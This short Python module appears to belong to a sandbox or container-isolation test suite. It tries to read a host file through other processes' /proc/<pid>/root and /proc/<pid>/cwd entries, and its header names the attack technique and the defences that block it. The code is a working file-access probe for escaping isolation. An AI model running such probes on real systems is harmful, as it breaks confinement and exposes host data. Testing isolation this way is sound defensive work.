"""Reach the host's files through another process's root, working folder or descriptors.

gain: the host's files
attack: T1083
stopped by: pid namespace, ptrace check
unconfined: host
also refused by: ENOENT
"""

from attacker import each, first


def attempt(world):
    ways = [f"/proc/{pid}/{way}" for pid in world["pids"] for way in ("root", "cwd")]

    def look(way):
        with open(way + world["host_file"]) as file:
            return f"read {file.read()[:20]!r} by {way}"

    return first(*each(ways, look))
